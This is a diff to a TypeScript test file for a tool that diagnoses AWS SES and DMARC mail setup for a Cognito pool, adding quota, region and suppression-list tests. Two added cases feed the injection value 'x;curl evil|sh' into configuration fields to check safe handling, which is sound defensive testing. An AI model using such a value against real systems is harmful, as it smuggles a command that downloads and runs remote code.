@@ -1,9 +1,10 @@
 import type { JsonObject } from "cognito-links/attach";
 import { describe, expect, it } from "vitest";
 import { createSesAccess } from "../../src/attach/connect.ts";
+import type { Finding } from "../../src/doctor/finding.ts";
 import type { ResolveTxt } from "../../src/doctor/read-dmarc.ts";
 import { readMail } from "../../src/doctor/read-mail.ts";
-import type { Finding, PoolFacts } from "../../src/doctor/rule.ts";
+import type { PoolFacts } from "../../src/doctor/rule.ts";
 import { rules } from "../../src/doctor/rules.ts";
 import { credentials, region, type SesState, sesModel } from "./ses-model.ts";
 
@@ -27,7 +28,7 @@ const facts: PoolFacts = {
   functionConfiguration: undefined,
   reservedConcurrency: undefined,
   hostedDomain: false,
-  place: "",
+  place: { ours: "", aws: " --profile team" },
   ses: undefined,
   dmarc: undefined,
 };
@@ -100,7 +101,7 @@ async function look({ ses = {}, pool: other = {}, dns = reject }: World): Promis
   return [...unreadable, ...found];
 }
 
-const sending = (EmailConfiguration: object): World["pool"] => ({ EmailConfiguration });
+const sending = (EmailConfiguration: object): JsonObject => ({ EmailConfiguration });
 
 describe("the doctor's look at a mail's way", () => {
   it("finds nothing where SES, DKIM, MAIL FROM and DMARC are in order", async () => {
@@ -122,6 +123,11 @@ describe("the doctor's look at a mail's way", () => {
       "warning ses-paused",
       /under review/,
       { ses: { account: { ...account, EnforcementStatus: "PROBATION" } } },
+    ],
+    [
+      "warning ses-quota",
+      /sent 160 of the 200 mails/,
+      { ses: { account: { ...account, SendQuota: { Max24HourSend: 200, SentLast24Hours: 160 } } } },
     ],
     ["problem ses-identity", /does not know .* example\.com/, { ses: { identities: {} } }],
     [
@@ -246,6 +252,16 @@ describe("the doctor's look at a mail's way", () => {
     ],
     [
       "warning cannot-read",
+      /names no identity/,
+      { pool: sending({ ...mails, SourceArn: source("x;curl evil|sh") }) },
+    ],
+    [
+      "warning link-tracking",
+      /which could not be looked at/,
+      { pool: sending({ ...mails, From: from, ConfigurationSet: "x;curl evil|sh" }) },
+    ],
+    [
+      "warning cannot-read",
       /DMARC record of mail\.example\.com: queryTxt ETIMEOUT/,
       { dns: new Error("queryTxt ETIMEOUT _dmarc.mail.example.com") },
     ],
@@ -287,6 +303,10 @@ describe("the doctor's look at a mail's way", () => {
       {
         pool: sending({ ...mails, SourceArn: source("team@mail.example.com") }),
       },
+    ],
+    [
+      "an account without a quota",
+      { ses: { account: { ...account, SendQuota: { Max24HourSend: -1, SentLast24Hours: 12 } } } },
     ],
     ["a missing record where DNS is not asked", { dns: null }],
     [
@@ -333,7 +353,24 @@ describe("the doctor's look at a mail's way", () => {
     ]);
   });
 
-  it("keeps no suppressed address", async () => {
-    expect(JSON.stringify(await look({ ses: { suppressed: ["BOUNCE"] } }))).not.toContain("gone0");
+  it("asks in the region of the pool's SourceArn, and nobody twice who does not answer", async () => {
+    const SourceArn = source("example.com").replace(region, "eu-south-1");
+    const [first, ...others] = await look({ pool: sending({ ...mails, SourceArn }) });
+    expect(first).toMatchObject({
+      severity: "warning",
+      what: expect.stringMatching(
+        /SES account .*, the SES identity .*, the suppression list in eu-south-1: email\.eu-south-1\.amazonaws\.com gave no answer/,
+      ),
+      fix: "Check the network.",
+    });
+    expect(others).toEqual([]);
+  });
+
+  it("shows no suppressed address, and how to look for one", async () => {
+    const found = await look({ ses: { suppressed: ["BOUNCE"] } });
+    expect(JSON.stringify(found)).not.toContain("gone0");
+    expect(found[0]?.fix).toMatch(
+      /: aws sesv2 get-suppressed-destination --email-address ADDRESS --region eu-west-1 --profile team$/,
+    );
   });
 });
